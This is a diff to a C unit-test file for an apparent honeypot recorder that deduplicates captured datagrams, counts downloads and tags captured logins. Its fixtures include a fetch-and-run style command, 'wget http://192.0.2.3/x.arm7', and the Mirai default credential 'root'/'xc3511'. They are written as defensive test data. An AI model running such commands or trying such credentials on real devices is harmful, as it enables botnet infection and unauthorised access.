@@ -77,7 +77,7 @@ static struct heard_table *table_of(size_t limit_bytes)
 static void hand_over(struct heard_table *table, struct seen *seen)
 {
     struct error error = {0};
-    assert_true(heard_table_hand_over(table, see, seen, &error));
+    assert_true(heard_table_hand_over(table, NULL, see, seen, &error));
     assert_true(heard_table_is_empty(table));
 }
 
@@ -209,14 +209,15 @@ static void a_content_is_kept_once_a_day_and_told_each_time(void **state)
     const struct day_seen *day = &seen.days[0];
     assert_int_equal(seen.calls, 2);
     assert_int_equal(day->rows.payload_count, 2);
-    assert_int_equal(day->rows.payload_event_count, 3);
+    assert_int_equal(day->rows.payload_event_count, 2);
     assert_int_equal(seen.days[1].rows.payload_count, 1);
     assert_true(day->payloads[0].cut);
     assert_false(day->payloads[1].cut);
     assert_memory_equal(day->bytes + day->payloads[1].bytes.at, "a\0c", 3);
     assert_memory_equal(day->events[0].id, day->payloads[0].id, PAYLOAD_ID_BYTES);
     assert_memory_equal(day->events[1].id, day->payloads[1].id, PAYLOAD_ID_BYTES);
-    assert_memory_equal(day->events[2].id, day->payloads[0].id, PAYLOAD_ID_BYTES);
+    assert_int_equal(day->events[0].packets, 2);
+    assert_int_equal(day->events[1].packets, 1);
     assert_int_equal(heard_counts(table).payloads, 3);
     assert_int_equal(heard_counts(table).payload_events, 4);
     seen_clear(&seen);
@@ -243,6 +244,96 @@ static void the_id_is_the_content_hash(void **state)
     heard_table_destroy(table);
 }
 
+/* One datagram of a flood: who sends what, and when. */
+static void take_datagram(struct heard_table *table, uint32_t second, uint16_t src_port,
+                          const char *text)
+{
+    struct heard heard = heard_of(HEARD_PAYLOAD, DAY, second);
+    heard.talk.protocol = 17;
+    heard.talk.src_port = src_port;
+    heard.payload.bytes = bytes_of(text);
+    heard_table_take(table, &heard);
+}
+
+static void equal_datagrams_of_a_minute_are_one_row_with_their_number(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    for (uint32_t i = 0; i < 1000; i++)
+        take_datagram(table, 60 + i % 60, 1, "M-SEARCH");
+    take_datagram(table, 59, 1, "M-SEARCH");
+    take_datagram(table, 120, 1, "M-SEARCH");
+    take_datagram(table, 60, 2, "M-SEARCH");
+    take_datagram(table, 60, 1, "M-SEARCH *");
+    hand_over(table, &seen);
+    const struct day_seen *day = &seen.days[0];
+    assert_int_equal(day->rows.payload_count, 2);
+    assert_int_equal(day->rows.payload_event_count, 5);
+    assert_int_equal(day->events[0].packets, 1000);
+    assert_int_equal(day->events[0].time_us % (US_PER_S * INT64_C(3600)), 60 * US_PER_S + 1);
+    for (size_t i = 1; i < 5; i++)
+        assert_int_equal(day->events[i].packets, 1);
+    assert_int_equal(heard_counts(table).payload_events, 1004);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void a_download_is_one_row_however_often_the_minute_repeats_it(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    for (uint16_t port = 1; port <= 3; port++)
+        for (int i = 0; i < 5; i++)
+            take_datagram(table, 60, port, "wget http://192.0.2.3/x.arm7");
+    hand_over(table, &seen);
+    assert_int_equal(seen.days[0].rows.download_count, 3);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void a_full_table_still_counts_what_it_has(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(64 * 1024);
+    take_datagram(table, 60, 1, "one");
+    for (uint32_t i = 0; i < 10000; i++)
+        take_payload(table, DAY, &i, sizeof i, false, true);
+    const uint64_t dropped = heard_counts(table).dropped;
+    assert_true(dropped > 0);
+    assert_true(heard_table_bytes(table) > 32 * 1024);
+    take_datagram(table, 61, 1, "one");
+    assert_int_equal(heard_counts(table).dropped, dropped);
+    hand_over(table, &seen);
+    assert_int_equal(seen.days[0].events[0].packets, 2);
+    assert_int_equal(heard_table_bytes(table), 0);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void logins_are_marked_with_the_list_that_knows_them(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct error error = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    const struct knowledge_options lists = {.login_count = 0};
+    struct knowledge *known = knowledge_create(&lists, &error);
+    assert_non_null(known);
+    take_login(table, "root", "xc3511");
+    take_login(table, "telnet", "telnet");
+    take_login(table, "root", "my own secret");
+    assert_true(heard_table_hand_over(table, known, see, &seen, &error));
+    assert_int_equal(seen.days[0].logins[0].list, LOGIN_LIST_MIRAI);
+    assert_int_equal(seen.days[0].logins[1].list, LOGIN_LIST_LATER);
+    assert_int_equal(seen.days[0].logins[2].list, LOGIN_LIST_NONE);
+    seen_clear(&seen);
+    knowledge_destroy(known);
+    heard_table_destroy(table);
+}
+
 static void thousands_of_contents_are_found_again(void **state)
 {
     (void)state;
@@ -254,7 +345,8 @@ static void thousands_of_contents_are_found_again(void **state)
             take_payload(table, DAY, &i, sizeof i, false, true);
     hand_over(table, &seen);
     assert_int_equal(seen.days[0].rows.payload_count, CONTENTS);
-    assert_int_equal(seen.days[0].rows.payload_event_count, 2 * CONTENTS);
+    assert_int_equal(seen.days[0].rows.payload_event_count, CONTENTS);
+    assert_int_equal(seen.days[0].events[15].packets, 2);
     seen_clear(&seen);
     heard_table_destroy(table);
 }
@@ -466,7 +558,7 @@ static void a_failure_is_told_and_the_table_is_empty(void **state)
     struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
     take_command(table, DAY, "ls");
     take_command(table, DAY + 1, "ls");
-    assert_false(heard_table_hand_over(table, see, &seen, &error));
+    assert_false(heard_table_hand_over(table, NULL, see, &seen, &error));
     assert_string_equal(error.text, "the disk is full");
     assert_int_equal(seen.calls, 1);
     assert_true(heard_table_is_empty(table));
@@ -480,6 +572,10 @@ int main(void)
         cmocka_unit_test(texts_come_back_and_are_cut_at_their_limits),
         cmocka_unit_test(a_content_is_kept_once_a_day_and_told_each_time),
         cmocka_unit_test(the_id_is_the_content_hash),
+        cmocka_unit_test(equal_datagrams_of_a_minute_are_one_row_with_their_number),
+        cmocka_unit_test(a_download_is_one_row_however_often_the_minute_repeats_it),
+        cmocka_unit_test(a_full_table_still_counts_what_it_has),
+        cmocka_unit_test(logins_are_marked_with_the_list_that_knows_them),
         cmocka_unit_test(thousands_of_contents_are_found_again),
         cmocka_unit_test(what_the_store_does_not_take_of_a_content_is_cut),
         cmocka_unit_test(downloads_come_from_lines_and_from_payloads_that_are_no_dialogue),
